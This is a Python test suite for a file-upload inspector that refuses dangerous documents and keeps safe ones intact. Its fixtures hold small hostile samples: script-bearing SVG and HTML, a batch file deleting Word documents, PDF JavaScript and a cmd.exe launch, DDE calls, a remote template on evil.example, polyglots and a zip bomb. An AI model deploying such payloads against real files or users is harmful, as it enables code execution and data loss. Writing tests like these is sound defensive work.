"""What officers send is looked at first: what could harm is refused with the reason, the rest is kept."""

import hashlib
import struct
import zlib
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from conversations.languages import LANGUAGES
from conversations.wording import catalogue
from conversations.xforms.limits import FILE_BYTES
from storage.reports.inspection import REASONS, Inspected
from tests.storage.reports.file_samples import DOCX, PDF, drawn, kept, look, pdf, refusal, with_gps, zipped

TEMPLATE = (
    b"""<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>"""
)

NEAR = b"""<Relationships>
<Relationship Type="http://x/attachedTemplate" Target="file:///C:/Normal.dotm" TargetMode="External"/>
<Relationship Type="http://x/hyperlink" Target="https://mujer.gob.do" TargetMode="External"/></Relationships>"""


def commented(data: bytes, comment: bytes) -> bytes:
    return data[:-2] + len(comment).to_bytes(2, "little") + comment


def packed(objects: bytes) -> bytes:
    """Objects as they are kept together, compressed."""
    return b"<</Type/ObjStm/N 1/First 4>>stream\n" + zlib.compress(b"4 0 " + objects) + b"\nendstream"


XLSX = zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>"})
ODT = zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<c/>"}, compress_type=0)
JAR = zipped({"META-INF/MANIFEST.MF": b"", "A.class": b"\xca\xfe\xba\xbe"})
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)

MP4 = (
    struct.pack(">I", 24) + b"ftypmp42\0\0\0\0mp42isom" + struct.pack(">I", 40) + b"moov\0\0\0\x20\xa9xyz\0\x12\x15\xc7"
    b"+18.4861-069.9312/" + bytes(4)
)

OGG = b"OggS\0\x02" + bytes(200)


# ------------------------------------------------------------------ what is refused
REFUSED: dict[str, tuple[Callable[[], bytes], str, str]] = {
    # what: bytes, name, reason
    "nothing": (lambda: b"", "a.pdf", "empty"),
    "over 20 MB": (lambda: PDF + bytes(FILE_BYTES), "a.pdf", "too_big"),
    "SVG": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', "a.svg", "svg"),
    "SVG named as a photo": (lambda: b"<?xml version='1.0'?>\n<!-- x --><svg/>", "a.png", "svg"),
    "SVG in UTF-16": (lambda: "<svg/>".encode("utf-16"), "a.svg", "svg"),
    "HTML": (lambda: b"<!DOCTYPE html><p>", "a.pdf", "html"),
    "HTML after text": (lambda: b"informe\n<script>x()</script>", "a.txt", "html"),
    "HTML after four kilobytes of text": (lambda: b"informe\n" * 600 + b"< body onload=x()>", "a.txt", "html"),
    "a picture that runs, after much text": (lambda: b"informe\n" * 9000 + b"<img src=x onerror=x()>", "a.txt", "html"),
    "a drawing after much text": (lambda: b"informe\n" * 9000 + b"<svg onload=x()>", "a.csv", "svg"),
    "batch file": (lambda: b"@echo off\r\ndel /q C:\\*.doc\r\n", "a.txt", "executable"),
    "other XML": (lambda: b"<?xml version='1.0'?><a/>", "a.xml", "unknown"),
    "Windows program": (lambda: b"MZ" + bytes(200), "informe.pdf", "executable"),
    "Linux program": (lambda: b"\x7fELF" + bytes(200), "", "executable"),
    "script": (lambda: b"#!/bin/sh\nrm x\n", "a.txt", "executable"),
    "script by name": (lambda: b"echo hola\n", "acta.pdf.bat", "executable"),
    "PHP": (lambda: b"<?php system('x');", "a.txt", "executable"),
    "Java archive": (lambda: JAR, "a.zip", "executable"),
    "zip": (lambda: zipped({"a.txt": b"x"}), "a.zip", "archive"),
    "rar": (lambda: b"Rar!\x1a\x07\0" + bytes(20), "a.rar", "archive"),
    "gzip": (lambda: b"\x1f\x8b\x08" + bytes(20), "a.svgz", "archive"),
    "GIF and Java archive (GIFAR)": (lambda: drawn("GIF") + JAR, "a.gif", "mixed"),
    "JPEG and zip": (lambda: drawn("JPEG") + DOCX, "a.jpg", "mixed"),
    "PDF and zip": (lambda: PDF + DOCX, "a.pdf", "mixed"),
    "zip and page": (lambda: DOCX + b"<html><script>x()</script>", "a.docx", "mixed"),
    "zip and page in its comment": (lambda: commented(DOCX, b"<script>x()</script>"), "a.docx", "mixed"),
    "GIF and PDF": (lambda: drawn("GIF", comment=b"%PDF-1.4 x"), "a.gif", "mixed"),
    "GIF and script": (lambda: drawn("GIF", comment=b"*/<script>x()</script>"), "a.gif", "mixed"),
    "PDF with a script": (lambda: pdf(b"<</S/JavaScript/JS(app.alert\\(1\\))>>"), "a.pdf", "scripts"),
    "PDF with a script under another spelling": (lambda: pdf(b"<</S/Java#53cript/JS 4 0 R>>"), "a.pdf", "scripts"),
    "PDF that starts a program": (lambda: pdf(b"<</S/Launch/F(cmd.exe)>>"), "a.pdf", "scripts"),
    "PDF with a file inside": (lambda: pdf(b"<</Names<</EmbeddedFiles 5 0 R>>>>"), "a.pdf", "attached"),
    "PDF with a script in a compressed object": (lambda: pdf(packed(b"<</S/JavaScript/JS(1)>>")), "a.pdf", "scripts"),
    "PDF of endless streams": (lambda: pdf(b"/a>>stream\n" * 30_000), "a.pdf", "unzips_too_far"),
    "PDF that cannot be looked at": (lambda: pdf(b"<</Encrypt 9 0 R>>"), "a.pdf", "password"),
    "document with a template elsewhere": (
        lambda: zipped({"word/document.xml": b"", "word/_rels/settings.xml.rels": TEMPLATE}),
        "a.docx",
        "remote",
    ),
    "document that calls a program": (
        lambda: zipped({"word/document.xml": b"<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>"}),
        "a.docx",
        "remote",
    ),
    "workbook that calls a program": (
        lambda: zipped({"xl/workbook.xml": b"", "xl/externalLinks/externalLink1.xml": b"<ddeLink ddeService='cmd'/>"}),
        "a.xlsx",
        "remote",
    ),
    "document with an object": (
        lambda: zipped({"word/document.xml": b"", "word/embeddings/oleObject1.bin": b""}),
        "a.docx",
        "attached",
    ),
    "PDF with a photo that tells its place": (
        lambda: pdf(b"<</Filter/DCTDecode>>stream\n" + with_gps() + b"endstream"),
        "a.pdf",
        "place",
    ),
    "document with a photo that tells its place": (
        lambda: zipped({"word/document.xml": b"<w/>", "word/media/image1.jpeg": with_gps()}),
        "a.docx",
        "place",
    ),
    "document with a PNG that tells its place": (
        lambda: zipped({"word/document.xml": b"<w/>", "word/media/image1.png": with_gps("PNG")}),
        "a.docx",
        "place",
    ),
    "slides with a picture that tells its place": (
        lambda: zipped({"ppt/presentation.xml": b"<p/>", "ppt/media/image1.tiff": with_gps("TIFF")}),
        "a.pptx",
        "place",
    ),
    "document with a photo that tells its place in XMP": (
        lambda: pdf(b"stream\n<rdf:Description exif:GPSLatitude='18,29.1N'/>endstream"),
        "a.pdf",
        "place",
    ),
    "document with macros": (
        lambda: zipped({"word/document.xml": b"<w/>", "word/vbaProject.bin": b"x"}),
        "a.docx",
        "macros",
    ),
    "old document with macros": (lambda: OLE + "WordDocument_VBA_PROJECT".encode("utf-16-le"), "a.doc", "macros"),
    "document with a password": (lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "a.docx", "password"),
    "unknown OLE": (lambda: OLE, "a.msi.dat", "unknown"),
    "half a document": (lambda: DOCX[:60], "a.docx", "damaged"),
    "zip bomb": (lambda: zipped({"word/document.xml": bytes(60_000_000)}), "a.docx", "unzips_too_far"),
    "many entries": (lambda: zipped({f"word/{n}": b"" for n in range(10_050)}), "a.docx", "unzips_too_far"),
    "HEIC": (lambda: struct.pack(">I", 24) + b"ftypheic" + bytes(100), "IMG_1.HEIC", "heic"),
    "noise": (lambda: bytes(range(128, 256)) * 20 + bytes(99), "a.bin", "unknown"),
    "PDF named as a photo": (lambda: PDF, "foto.jpg", "wrong_extension"),
    "photo named as a PDF": (lambda: drawn("JPEG"), "acta.pdf", "wrong_extension"),
    "sheet named as a document": (lambda: XLSX, "acta.docx", "wrong_extension"),
}


@pytest.mark.parametrize("what", REFUSED)
def test_what_could_harm_who_opens_it_is_refused_and_says_why(what: str) -> None:
    """Bytes decide, never the name."""
    make, name, reason = REFUSED[what]
    assert refusal(make(), name) == reason


def test_a_document_whose_photos_tell_nothing_is_kept_as_it_came() -> None:
    photo = drawn("JPEG", comment=b"Exif\0\0II*\0 and then nothing that could be read")
    for data, name in (
        (zipped({"word/document.xml": b"<w/>", "word/media/image1.jpg": photo}), "a.docx"),
        (pdf(b"<</Filter/DCTDecode>>stream\n" + photo + b"endstream"), "a.pdf"),
    ):
        assert kept(data, name).data == data


@pytest.mark.parametrize(
    ("data", "name", "accept", "mime"),
    [(PDF, "a.pdf", "image", ""), (drawn("PNG"), "a.png", "audio", ""), (OGG, "a.ogg", "video", "audio/ogg")],
)
def test_a_question_takes_only_the_kind_it_asks_for(data: bytes, name: str, accept: str, mime: str) -> None:
    """A photo is no recording."""
    assert refusal(data, name, accept, mime=mime) == "wrong_kind"


def test_every_reason_has_a_sentence_in_every_language() -> None:
    """Nobody is refused without being told why."""
    for language in LANGUAGES:
        assert {f"file.{reason}" for reason in REASONS} <= catalogue(language).keys()


@given(
    st.sampled_from(
        [with_gps("JPEG"), with_gps("PNG"), with_gps("TIFF"), drawn("GIF"), drawn("BMP"), DOCX, ODT, MP4, PDF]
    ),
    st.lists(st.tuples(st.integers(0, 2**20), st.integers(0, 255)), max_size=8),
    st.binary(max_size=40),
    st.sampled_from(["image", "file"]),
)
def test_no_bytes_are_too_strange_to_be_inspected(
    data: bytes, changes: list[tuple[int, int]], tail: bytes, accept: str
) -> None:
    """Nothing raises, and what is kept says truly what it is."""
    broken = bytearray(data)
    for position, value in changes:
        broken[position % len(broken)] = value
    found = look(bytes(broken) + tail, "x", accept)
    if isinstance(found, Inspected):
        assert found.sha256 == hashlib.sha256(found.data).hexdigest()


# ------------------------------------------------------------------ what is kept
@pytest.mark.parametrize(
    ("data", "name", "mime_type", "extension"),
    [
        (PDF, "Acta.PDF", "application/pdf", "pdf"),
        (b"\xef\xbb\xbf" + PDF, "a.pdf", "application/pdf", "pdf"),
        (DOCX, "a.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "docx"),
        (XLSX, "a.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx"),
        (ODT, "a.odt", "application/vnd.oasis.opendocument.text", "odt"),
        (OLE + "WordDocument".encode("utf-16-le"), "a.doc", "application/msword", "doc"),
        ("código;año\n1;ñ\n".encode(), "a.csv", "text/csv", "csv"),
        ("Informe de la campaña\n".encode("cp1252"), "a.txt", "text/plain", "txt"),
        (b'{"type": "Point"}', "a.geojson", "application/json", "geojson"),
        (b"{\\rtf1 hola}", "a.rtf", "application/rtf", "rtf"),
        (OGG, "voz.oga", "audio/ogg", "ogg"),
    ],
)
def test_documents_keep_every_byte(data: bytes, name: str, mime_type: str, extension: str) -> None:
    """Both hashes are the same."""
    found = kept(data, name)
    assert (found.mime_type, found.extension, found.data) == (mime_type, extension, data)
    assert found.sha256 == found.original_sha256


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (pdf(b"<</OpenAction[3 0 R/Fit]/URI(https://mujer.gob.do)>>"), "a.pdf"),
        (pdf(packed(b"<</Type/Catalog>>")), "a.pdf"),
        (pdf(b"<</Length 9>>stream\n(/JS 1) /JS\nendstream"), "a.pdf"),
        (
            zipped({"word/document.xml": b"<w:instrText>PAGE</w:instrText>", "word/_rels/document.xml.rels": NEAR}),
            "a.docx",
        ),
    ],
)
def test_a_document_that_only_shows_itself_is_kept(data: bytes, name: str) -> None:
    """Links that a reader follows, a template of the writer's own computer, and page numbers are harmless."""
    assert kept(data, name).data == data


def test_a_photo_under_another_photos_name_is_kept_as_what_it_is() -> None:
    """Phones rename PNG to .jpg all day."""
    found = kept(drawn("PNG"), "foto.jpg", "image")
    assert (found.mime_type, found.extension, found.original_name) == ("image/png", "png", "foto.jpg")


def test_a_video_forgets_where_it_was_filmed() -> None:
    """The note of the place is free space of the same length, so that the file still plays."""
    found = kept(MP4, "v.mp4", "video")
    assert b"free" + bytes(18) in found.data
    assert len(found.data) == len(MP4)


def test_sound_in_a_container_of_video_is_sound() -> None:
    """Many phones record voice into MP4."""
    assert kept(MP4, "v.mp4", "audio", mime="audio/mp4").mime_type == "video/mp4"
